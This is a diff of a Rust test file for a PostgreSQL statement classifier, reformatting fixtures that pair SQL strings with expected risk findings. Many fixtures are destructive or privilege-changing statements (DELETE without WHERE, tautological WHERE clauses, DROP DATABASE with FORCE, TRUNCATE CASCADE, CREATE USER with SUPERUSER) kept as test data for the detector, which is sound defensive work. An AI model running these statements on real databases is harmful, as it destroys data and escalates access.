@@ -2,7 +2,12 @@
 //! the exact set of finding categories. Evasions (case, comments, quoting, unicode escapes, dollar quoting,
 //! multi-statements, CTEs, functions) are grouped at the end.
 
-#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing
+)]
 
 use sluice_policy::facts::Category::{self, *};
 use sluice_policy::sql::pg::classify;
@@ -15,42 +20,106 @@ const READS: &[Case] = &[
     ("SELECT 1", "SELECT", &[]),
     ("select * from users", "SELECT", &[]),
     ("SELECT id, name FROM public.users WHERE id = $1", "SELECT", &[]),
-    ("SELECT count(*) FROM orders GROUP BY status HAVING count(*) > 1", "SELECT", &[]),
-    ("SELECT a.id FROM a JOIN b ON a.id = b.a_id LEFT JOIN c USING (id)", "SELECT", &[]),
-    ("SELECT * FROM t ORDER BY created_at DESC LIMIT 10 OFFSET 20", "SELECT", &[]),
-    ("SELECT lower(email), upper(name), length(bio) FROM users", "SELECT", &[]),
-    ("SELECT now(), current_date, current_timestamp, localtime", "SELECT", &[]),
-    ("SELECT coalesce(a, b), nullif(a, 0), greatest(1, 2), least(3, 4)", "SELECT", &[]),
-    ("SELECT date_trunc('day', ts), extract(epoch from ts) FROM events", "SELECT", &[]),
-    ("SELECT jsonb_build_object('a', 1), json_agg(x) FROM t", "SELECT", &[]),
+    (
+        "SELECT count(*) FROM orders GROUP BY status HAVING count(*) > 1",
+        "SELECT",
+        &[],
+    ),
+    (
+        "SELECT a.id FROM a JOIN b ON a.id = b.a_id LEFT JOIN c USING (id)",
+        "SELECT",
+        &[],
+    ),
+    (
+        "SELECT * FROM t ORDER BY created_at DESC LIMIT 10 OFFSET 20",
+        "SELECT",
+        &[],
+    ),
+    (
+        "SELECT lower(email), upper(name), length(bio) FROM users",
+        "SELECT",
+        &[],
+    ),
+    (
+        "SELECT now(), current_date, current_timestamp, localtime",
+        "SELECT",
+        &[],
+    ),
+    (
+        "SELECT coalesce(a, b), nullif(a, 0), greatest(1, 2), least(3, 4)",
+        "SELECT",
+        &[],
+    ),
+    (
+        "SELECT date_trunc('day', ts), extract(epoch from ts) FROM events",
+        "SELECT",
+        &[],
+    ),
+    (
+        "SELECT jsonb_build_object('a', 1), json_agg(x) FROM t",
+        "SELECT",
+        &[],
+    ),
     ("SELECT string_agg(name, ',') FROM users", "SELECT", &[]),
-    ("SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t", "SELECT", &[]),
+    (
+        "SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t",
+        "SELECT",
+        &[],
+    ),
     ("SELECT * FROM generate_series(1, 10) g", "SELECT", &[]),
     ("SELECT unnest(ARRAY[1,2,3])", "SELECT", &[]),
-    ("SELECT pg_size_pretty(pg_total_relation_size('users'))", "SELECT", &[]),
+    (
+        "SELECT pg_size_pretty(pg_total_relation_size('users'))",
+        "SELECT",
+        &[],
+    ),
     ("SELECT pg_catalog.lower('X')", "SELECT", &[]),
     ("SELECT current_setting('search_path')", "SELECT", &[]),
     ("SELECT version()", "SELECT", &[]),
     ("SELECT to_char(now(), 'YYYY-MM-DD')", "SELECT", &[]),
     ("SELECT regexp_replace(name, 'a', 'b') FROM t", "SELECT", &[]),
     ("SELECT has_table_privilege('users', 'select')", "SELECT", &[]),
-    ("SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE flag)", "SELECT", &[]),
+    (
+        "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE flag)",
+        "SELECT",
+        &[],
+    ),
     ("SELECT EXISTS (SELECT 1 FROM t WHERE x = 1)", "SELECT", &[]),
     ("WITH x AS (SELECT 1 AS a) SELECT a FROM x", "SELECT", &[]),
-    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r", "SELECT", &[]),
+    (
+        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
+        "SELECT",
+        &[],
+    ),
     ("SELECT 1 UNION SELECT 2 EXCEPT SELECT 3", "SELECT", &[]),
     ("VALUES (1, 'a'), (2, 'b')", "SELECT", &[]),
     ("TABLE users", "SELECT", &[]),
     ("SELECT * FROM t WHERE true", "SELECT", &[]),
     ("SELECT * FROM t WHERE 1=1", "SELECT", &[]),
-    ("SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t", "SELECT", &[]),
+    (
+        "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t",
+        "SELECT",
+        &[],
+    ),
     ("SELECT a::text, b::int, CAST(c AS numeric) FROM t", "SELECT", &[]),
     ("SELECT * FROM t TABLESAMPLE SYSTEM (10)", "SELECT", &[]),
-    ("SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t_id = t.id) s", "SELECT", &[]),
-    ("SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY x) FROM t", "SELECT", &[]),
+    (
+        "SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t_id = t.id) s",
+        "SELECT",
+        &[],
+    ),
+    (
+        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY x) FROM t",
+        "SELECT",
+        &[],
+    ),
     ("SELECT md5('x'), sha256('x'::bytea)", "SELECT", &[]),
     ("SELECT gen_random_uuid()", "SELECT", &[]),
-    ("SELECT array_length(ARRAY[1], 1), cardinality(ARRAY[1])", "SELECT", &[]),
+    (
+        "SELECT array_length(ARRAY[1], 1), cardinality(ARRAY[1])",
+        "SELECT",
+        &[],
+    ),
     ("SELECT x FROM t WHERE name ILIKE '%bob%'", "SELECT", &[]),
     ("SHOW search_path", "SHOW", &[]),
     ("SHOW ALL", "SHOW", &[]),
@@ -71,7 +140,11 @@ const READS: &[Case] = &[
 
 const SESSION: &[Case] = &[
     ("BEGIN", "BEGIN", &[]),
-    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "START TRANSACTION", &[]),
+    (
+        "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
+        "START TRANSACTION",
+        &[],
+    ),
     ("COMMIT", "COMMIT", &[]),
     ("ROLLBACK", "ROLLBACK", &[]),
     ("SAVEPOINT s1", "SAVEPOINT", &[]),
@@ -144,56 +217,228 @@ const UNSAFE_DML: &[Case] = &[
     ("DELETE FROM users", "DELETE", &[Write, DeleteWithoutWhere]),
     ("delete from public.users", "DELETE", &[Write, DeleteWithoutWhere]),
     ("DELETE FROM ONLY users", "DELETE", &[Write, DeleteWithoutWhere]),
-    ("DELETE FROM users RETURNING *", "DELETE", &[Write, DeleteWithoutWhere]),
+    (
+        "DELETE FROM users RETURNING *",
+        "DELETE",
+        &[Write, DeleteWithoutWhere],
+    ),
     ("DELETE FROM t USING u", "DELETE", &[Write, DeleteWithoutWhere]),
-    ("DELETE FROM t USING u WHERE u.flag = true", "DELETE", &[Write, DeleteWithoutWhere]),
-    ("DELETE FROM t AS x USING u WHERE u.id = 1", "DELETE", &[Write, DeleteWithoutWhere]),
-    ("UPDATE users SET admin = true", "UPDATE", &[Write, UpdateWithoutWhere]),
-    ("update t set a = a + 1 returning *", "UPDATE", &[Write, UpdateWithoutWhere]),
-    ("UPDATE t SET a = u.a FROM u WHERE u.id = 1", "UPDATE", &[Write, UpdateWithoutWhere]),
+    (
+        "DELETE FROM t USING u WHERE u.flag = true",
+        "DELETE",
+        &[Write, DeleteWithoutWhere],
+    ),
+    (
+        "DELETE FROM t AS x USING u WHERE u.id = 1",
+        "DELETE",
+        &[Write, DeleteWithoutWhere],
+    ),
+    (
+        "UPDATE users SET admin = true",
+        "UPDATE",
+        &[Write, UpdateWithoutWhere],
+    ),
+    (
+        "update t set a = a + 1 returning *",
+        "UPDATE",
+        &[Write, UpdateWithoutWhere],
+    ),
+    (
+        "UPDATE t SET a = u.a FROM u WHERE u.id = 1",
+        "UPDATE",
+        &[Write, UpdateWithoutWhere],
+    ),
     ("DELETE FROM t WHERE true", "DELETE", &[Write, TautologicalWhere]),
     ("DELETE FROM t WHERE TRUE", "DELETE", &[Write, TautologicalWhere]),
     ("DELETE FROM t WHERE 1=1", "DELETE", &[Write, TautologicalWhere]),
     ("DELETE FROM t WHERE 1 = 1", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 'a'='a'", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE NOT false", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE id > 5 OR 1=1", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 1=1 OR id = 5", "DELETE", &[Write, TautologicalWhere]),
+    (
+        "DELETE FROM t WHERE 'a'='a'",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE NOT false",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE id > 5 OR 1=1",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE 1=1 OR id = 5",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
     ("DELETE FROM t WHERE 2 > 1", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 1 <> 2", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 2-1 = 1", "DELETE", &[Write, TautologicalWhere]),
+    (
+        "DELETE FROM t WHERE 1 <> 2",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE 2-1 = 1",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
     ("DELETE FROM t WHERE 't'", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 'yes'::boolean", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 1::bool", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE true AND 1=1", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE NULL IS NULL", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 1 IS NOT NULL", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE true IS TRUE", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 1 IN (1, 2)", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 3 BETWEEN 1 AND 5", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 'a' LIKE '%'", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 'ab' = 'a' || 'b'", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE id = id", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE t.id = t.id", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 1 IS NOT DISTINCT FROM 1", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE NOT (1 = 2)", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE (((true)))", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE '1' = 1", "DELETE", &[Write, TautologicalWhere]),
-    ("DELETE FROM t WHERE 1.0 = 1", "DELETE", &[Write, TautologicalWhere]),
-    ("UPDATE t SET a = 1 WHERE true", "UPDATE", &[Write, TautologicalWhere]),
-    ("UPDATE t SET a = 1 WHERE 1=1", "UPDATE", &[Write, TautologicalWhere]),
-    ("UPDATE t SET a = 1 WHERE 'x' <> 'y'", "UPDATE", &[Write, TautologicalWhere]),
-    ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", "MERGE", &[Write, TautologicalWhere]),
-    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", "SELECT", &[Write, DeleteWithoutWhere]),
-    ("WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT 1", "SELECT", &[Write, UpdateWithoutWhere]),
-    ("WITH d AS (DELETE FROM t WHERE 1=1 RETURNING *) SELECT 1", "SELECT", &[Write, TautologicalWhere]),
-    ("EXPLAIN ANALYZE DELETE FROM t", "DELETE", &[Write, DeleteWithoutWhere]),
-    ("EXPLAIN (ANALYZE) UPDATE t SET a = 1", "UPDATE", &[Write, UpdateWithoutWhere]),
-    ("EXPLAIN (ANALYZE true, VERBOSE) DELETE FROM t", "DELETE", &[Write, DeleteWithoutWhere]),
-    ("PREPARE wipe AS DELETE FROM t", "PREPARE", &[Write, DeleteWithoutWhere]),
-    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "COPY TO", &[Write, DeleteWithoutWhere]),
-    ("INSERT INTO log SELECT * FROM (VALUES (1)) v; DELETE FROM t", "INSERT; DELETE", &[Write, DeleteWithoutWhere]),
-    ("DELETE FROM t WHERE id = 1 OR id = id", "DELETE", &[Write, TautologicalWhere]),
+    (
+        "DELETE FROM t WHERE 'yes'::boolean",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE 1::bool",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE true AND 1=1",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE NULL IS NULL",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE 1 IS NOT NULL",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE true IS TRUE",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE 1 IN (1, 2)",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE 3 BETWEEN 1 AND 5",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE 'a' LIKE '%'",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE 'ab' = 'a' || 'b'",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE id = id",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE t.id = t.id",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE 1 IS NOT DISTINCT FROM 1",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE NOT (1 = 2)",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE (((true)))",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE '1' = 1",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "DELETE FROM t WHERE 1.0 = 1",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "UPDATE t SET a = 1 WHERE true",
+        "UPDATE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "UPDATE t SET a = 1 WHERE 1=1",
+        "UPDATE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "UPDATE t SET a = 1 WHERE 'x' <> 'y'",
+        "UPDATE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
+        "MERGE",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
+        "SELECT",
+        &[Write, DeleteWithoutWhere],
+    ),
+    (
+        "WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT 1",
+        "SELECT",
+        &[Write, UpdateWithoutWhere],
+    ),
+    (
+        "WITH d AS (DELETE FROM t WHERE 1=1 RETURNING *) SELECT 1",
+        "SELECT",
+        &[Write, TautologicalWhere],
+    ),
+    (
+        "EXPLAIN ANALYZE DELETE FROM t",
+        "DELETE",
+        &[Write, DeleteWithoutWhere],
+    ),
+    (
+        "EXPLAIN (ANALYZE) UPDATE t SET a = 1",
+        "UPDATE",
+        &[Write, UpdateWithoutWhere],
+    ),
+    (
+        "EXPLAIN (ANALYZE true, VERBOSE) DELETE FROM t",
+        "DELETE",
+        &[Write, DeleteWithoutWhere],
+    ),
+    (
+        "PREPARE wipe AS DELETE FROM t",
+        "PREPARE",
+        &[Write, DeleteWithoutWhere],
+    ),
+    (
+        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
+        "COPY TO",
+        &[Write, DeleteWithoutWhere],
+    ),
+    (
+        "INSERT INTO log SELECT * FROM (VALUES (1)) v; DELETE FROM t",
+        "INSERT; DELETE",
+        &[Write, DeleteWithoutWhere],
+    ),
+    (
+        "DELETE FROM t WHERE id = 1 OR id = id",
+        "DELETE",
+        &[Write, TautologicalWhere],
+    ),
 ];
 
 const SAFE_WHERE: &[Case] = &[
@@ -215,20 +460,36 @@ const SAFE_WHERE: &[Case] = &[
 
 const DDL: &[Case] = &[
     ("DROP TABLE users", "DROP TABLE", &[DropObject, Ddl]),
-    ("DROP TABLE IF EXISTS public.users, orders CASCADE", "DROP TABLE", &[DropObject, Ddl]),
+    (
+        "DROP TABLE IF EXISTS public.users, orders CASCADE",
+        "DROP TABLE",
+        &[DropObject, Ddl],
+    ),
     ("drop table \"Users\"", "DROP TABLE", &[DropObject, Ddl]),
     ("DROP VIEW v", "DROP VIEW", &[DropObject, Ddl]),
-    ("DROP MATERIALIZED VIEW mv", "DROP MATERIALIZED VIEW", &[DropObject, Ddl]),
+    (
+        "DROP MATERIALIZED VIEW mv",
+        "DROP MATERIALIZED VIEW",
+        &[DropObject, Ddl],
+    ),
     ("DROP INDEX CONCURRENTLY idx", "DROP INDEX", &[DropObject, Ddl]),
     ("DROP SEQUENCE s", "DROP SEQUENCE", &[DropObject, Ddl]),
     ("DROP SCHEMA app", "DROP SCHEMA", &[DropObject, Ddl]),
     ("DROP SCHEMA app CASCADE", "DROP SCHEMA", &[DropObject, Ddl]),
     ("DROP DATABASE prod", "DROP DATABASE", &[DropObject, Ddl]),
-    ("DROP DATABASE IF EXISTS prod WITH (FORCE)", "DROP DATABASE", &[DropObject, Ddl]),
+    (
+        "DROP DATABASE IF EXISTS prod WITH (FORCE)",
+        "DROP DATABASE",
+        &[DropObject, Ddl],
+    ),
     ("DROP OWNED BY app_user", "DROP OWNED", &[DropObject, Ddl]),
     ("DROP OWNED BY app_user CASCADE", "DROP OWNED", &[DropObject, Ddl]),
     ("DROP TYPE mood CASCADE", "DROP TYPE", &[DropObject, Ddl]),
-    ("DROP DOMAIN email_address CASCADE", "DROP DOMAIN", &[DropObject, Ddl]),
+    (
+        "DROP DOMAIN email_address CASCADE",
+        "DROP DOMAIN",
+        &[DropObject, Ddl],
+    ),
     ("DROP FUNCTION f(int)", "DROP FUNCTION", &[DropObject, Ddl]),
     ("DROP PROCEDURE p", "DROP PROCEDURE", &[DropObject, Ddl]),
     ("DROP EXTENSION pgcrypto", "DROP EXTENSION", &[DropObject, Ddl]),
@@ -239,12 +500,24 @@ const DDL: &[Case] = &[
     ("DROP POLICY p ON t", "DROP POLICY", &[DropObject, Ddl]),
     ("DROP RULE r ON t", "DROP RULE", &[DropObject, Ddl]),
     ("TRUNCATE users", "TRUNCATE TABLE", &[Truncate]),
-    ("TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", "TRUNCATE TABLE", &[Truncate]),
+    (
+        "TRUNCATE TABLE a, b RESTART IDENTITY CASCADE",
+        "TRUNCATE TABLE",
+        &[Truncate],
+    ),
     ("truncate only t", "TRUNCATE TABLE", &[Truncate]),
     ("ALTER TABLE t DROP COLUMN c", "ALTER TABLE", &[Ddl, DropColumn]),
-    ("ALTER TABLE t DROP COLUMN IF EXISTS c CASCADE", "ALTER TABLE", &[Ddl, DropColumn]),
+    (
+        "ALTER TABLE t DROP COLUMN IF EXISTS c CASCADE",
+        "ALTER TABLE",
+        &[Ddl, DropColumn],
+    ),
     ("ALTER TABLE t DROP c", "ALTER TABLE", &[Ddl, DropColumn]),
-    ("ALTER TABLE t ADD COLUMN c int, DROP COLUMN d", "ALTER TABLE", &[Ddl, DropColumn]),
+    (
+        "ALTER TABLE t ADD COLUMN c int, DROP COLUMN d",
+        "ALTER TABLE",
+        &[Ddl, DropColumn],
+    ),
     ("ALTER TABLE t ADD COLUMN c int", "ALTER TABLE", &[Ddl]),
     ("ALTER TABLE t ALTER COLUMN c TYPE bigint", "ALTER TABLE", &[Ddl]),
     ("ALTER TABLE t DROP CONSTRAINT t_pkey", "ALTER TABLE", &[Ddl]),
@@ -256,59 +529,163 @@ const DDL: &[Case] = &[
     ("ALTER VIEW v RENAME TO w", "ALTER VIEW", &[Ddl]),
     ("CREATE TABLE t (id int primary key)", "CREATE TABLE", &[Ddl]),
     ("CREATE TEMP TABLE t (id int)", "CREATE TABLE", &[Ddl]),
-    ("CREATE UNLOGGED TABLE IF NOT EXISTS t (id int)", "CREATE TABLE", &[Ddl]),
-    ("CREATE TABLE t AS SELECT * FROM u", "CREATE TABLE AS", &[Ddl, Write]),
+    (
+        "CREATE UNLOGGED TABLE IF NOT EXISTS t (id int)",
+        "CREATE TABLE",
+        &[Ddl],
+    ),
+    (
+        "CREATE TABLE t AS SELECT * FROM u",
+        "CREATE TABLE AS",
+        &[Ddl, Write],
+    ),
     ("SELECT * INTO t2 FROM t", "SELECT INTO", &[Ddl, Write]),
-    ("CREATE MATERIALIZED VIEW mv AS SELECT 1", "CREATE MATERIALIZED VIEW", &[Ddl, Write]),
+    (
+        "CREATE MATERIALIZED VIEW mv AS SELECT 1",
+        "CREATE MATERIALIZED VIEW",
+        &[Ddl, Write],
+    ),
     ("CREATE VIEW v AS SELECT * FROM t", "CREATE VIEW", &[Ddl]),
-    ("CREATE OR REPLACE VIEW v AS SELECT * FROM t", "CREATE VIEW", &[Ddl]),
+    (
+        "CREATE OR REPLACE VIEW v AS SELECT * FROM t",
+        "CREATE VIEW",
+        &[Ddl],
+    ),
     ("CREATE INDEX CONCURRENTLY i ON t (a)", "CREATE INDEX", &[Ddl]),
     ("CREATE UNIQUE INDEX i ON t (lower(a))", "CREATE INDEX", &[Ddl]),
     ("CREATE SEQUENCE s", "CREATE SEQUENCE", &[Ddl]),
     ("ALTER SEQUENCE s RESTART WITH 1", "ALTER SEQUENCE", &[Ddl]),
     ("CREATE SCHEMA app", "CREATE SCHEMA", &[Ddl]),
-    ("CREATE SCHEMA app CREATE TABLE t (id int) CREATE VIEW v AS SELECT 1", "CREATE SCHEMA", &[Ddl]),
+    (
+        "CREATE SCHEMA app CREATE TABLE t (id int) CREATE VIEW v AS SELECT 1",
+        "CREATE SCHEMA",
+        &[Ddl],
+    ),
     ("CREATE DATABASE newdb", "CREATE DATABASE", &[Ddl]),
     ("ALTER DATABASE db SET work_mem = '1GB'", "ALTER DATABASE", &[Ddl]),
-    ("CREATE EXTENSION IF NOT EXISTS pgcrypto", "CREATE EXTENSION", &[Ddl]),
-    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "CREATE FUNCTION", &[Ddl]),
-    ("CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ BEGIN RETURN 1; END $$ LANGUAGE plpgsql", "CREATE FUNCTION", &[Ddl]),
-    ("CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$", "CREATE PROCEDURE", &[Ddl]),
-    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END", "CREATE FUNCTION", &[Ddl]),
+    (
+        "CREATE EXTENSION IF NOT EXISTS pgcrypto",
+        "CREATE EXTENSION",
+        &[Ddl],
+    ),
+    (
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
+        "CREATE FUNCTION",
+        &[Ddl],
+    ),
+    (
+        "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ BEGIN RETURN 1; END $$ LANGUAGE plpgsql",
+        "CREATE FUNCTION",
+        &[Ddl],
+    ),
+    (
+        "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$",
+        "CREATE PROCEDURE",
+        &[Ddl],
+    ),
+    (
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END",
+        "CREATE FUNCTION",
+        &[Ddl],
+    ),
     ("ALTER FUNCTION f() SECURITY DEFINER", "ALTER FUNCTION", &[Ddl]),
-    ("CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "CREATE TRIGGER", &[Ddl]),
-    ("CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()", "CREATE EVENT TRIGGER", &[Ddl]),
+    (
+        "CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
+        "CREATE TRIGGER",
+        &[Ddl],
+    ),
+    (
+        "CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()",
+        "CREATE EVENT TRIGGER",
+        &[Ddl],
+    ),
     ("CREATE TYPE mood AS ENUM ('happy', 'sad')", "CREATE TYPE", &[Ddl]),
     ("ALTER TYPE mood ADD VALUE 'meh'", "ALTER TYPE", &[Ddl]),
-    ("CREATE DOMAIN posint AS int CHECK (VALUE > 0)", "CREATE DOMAIN", &[Ddl]),
+    (
+        "CREATE DOMAIN posint AS int CHECK (VALUE > 0)",
+        "CREATE DOMAIN",
+        &[Ddl],
+    ),
     ("COMMENT ON TABLE t IS 'hello'", "COMMENT", &[Ddl]),
     ("COMMENT ON COLUMN t.a IS NULL", "COMMENT", &[Ddl]),
-    ("SECURITY LABEL FOR selinux ON TABLE t IS 'system_u:object_r:sepgsql_table_t:s0'", "SECURITY LABEL", &[Ddl]),
-    ("IMPORT FOREIGN SCHEMA remote FROM SERVER srv INTO local", "IMPORT FOREIGN SCHEMA", &[Ddl]),
-    ("CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw", "CREATE SERVER", &[Ddl]),
-    ("CREATE PUBLICATION pub FOR ALL TABLES", "CREATE PUBLICATION", &[Ddl]),
+    (
+        "SECURITY LABEL FOR selinux ON TABLE t IS 'system_u:object_r:sepgsql_table_t:s0'",
+        "SECURITY LABEL",
+        &[Ddl],
+    ),
+    (
+        "IMPORT FOREIGN SCHEMA remote FROM SERVER srv INTO local",
+        "IMPORT FOREIGN SCHEMA",
+        &[Ddl],
+    ),
+    (
+        "CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw",
+        "CREATE SERVER",
+        &[Ddl],
+    ),
+    (
+        "CREATE PUBLICATION pub FOR ALL TABLES",
+        "CREATE PUBLICATION",
+        &[Ddl],
+    ),
     ("ALTER SYSTEM SET work_mem = '1GB'", "ALTER SYSTEM", &[Ddl]),
     ("ALTER SYSTEM RESET ALL", "ALTER SYSTEM", &[Ddl]),
-    ("CREATE RULE r AS ON INSERT TO t DO ALSO NOTIFY t", "CREATE RULE", &[Ddl, Write]),
-    ("CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u", "CREATE RULE", &[Ddl, Write, DeleteWithoutWhere]),
-    ("CREATE RULE r AS ON UPDATE TO t DO INSTEAD NOTHING", "CREATE RULE", &[Ddl]),
+    (
+        "CREATE RULE r AS ON INSERT TO t DO ALSO NOTIFY t",
+        "CREATE RULE",
+        &[Ddl, Write],
+    ),
+    (
+        "CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u",
+        "CREATE RULE",
+        &[Ddl, Write, DeleteWithoutWhere],
+    ),
+    (
+        "CREATE RULE r AS ON UPDATE TO t DO INSTEAD NOTHING",
+        "CREATE RULE",
+        &[Ddl],
+    ),
     ("CREATE TABLE t2 (LIKE t INCLUDING ALL)", "CREATE TABLE", &[Ddl]),
     ("CREATE STATISTICS s ON a, b FROM t", "CREATE STATISTICS", &[Ddl]),
-    ("CREATE TABLE p_2024 PARTITION OF p FOR VALUES FROM ('2024-01-01') TO ('2025-01-01')", "CREATE TABLE", &[Ddl]),
+    (
+        "CREATE TABLE p_2024 PARTITION OF p FOR VALUES FROM ('2024-01-01') TO ('2025-01-01')",
+        "CREATE TABLE",
+        &[Ddl],
+    ),
 ];
 
 const PRIVILEGES: &[Case] = &[
     ("GRANT SELECT ON users TO analyst", "GRANT", &[PrivilegeChange]),
-    ("GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO app", "GRANT", &[PrivilegeChange]),
+    (
+        "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO app",
+        "GRANT",
+        &[PrivilegeChange],
+    ),
     ("REVOKE INSERT ON t FROM PUBLIC", "REVOKE", &[PrivilegeChange]),
     ("GRANT admin TO alice", "GRANT", &[PrivilegeChange]),
     ("REVOKE admin FROM alice", "REVOKE", &[PrivilegeChange]),
-    ("GRANT USAGE ON SCHEMA s TO r WITH GRANT OPTION", "GRANT", &[PrivilegeChange]),
-    ("CREATE ROLE r LOGIN PASSWORD 'x'", "CREATE ROLE", &[PrivilegeChange]),
-    ("CREATE USER bob WITH SUPERUSER", "CREATE ROLE", &[PrivilegeChange]),
+    (
+        "GRANT USAGE ON SCHEMA s TO r WITH GRANT OPTION",
+        "GRANT",
+        &[PrivilegeChange],
+    ),
+    (
+        "CREATE ROLE r LOGIN PASSWORD 'x'",
+        "CREATE ROLE",
+        &[PrivilegeChange],
+    ),
+    (
+        "CREATE USER bob WITH SUPERUSER",
+        "CREATE ROLE",
+        &[PrivilegeChange],
+    ),
     ("ALTER ROLE bob SUPERUSER", "ALTER ROLE", &[PrivilegeChange]),
